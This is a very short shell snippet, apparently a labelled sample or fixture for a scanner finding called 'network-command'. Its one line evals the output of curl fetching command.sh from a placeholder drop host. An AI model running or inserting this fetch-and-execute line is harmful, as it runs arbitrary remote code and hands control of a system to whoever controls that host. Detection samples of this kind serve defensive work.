# incident: the same by eval
# finding: network-command
# needs: curl
eval "$(curl -fsSL "http://$DROP/raw/command.sh")"
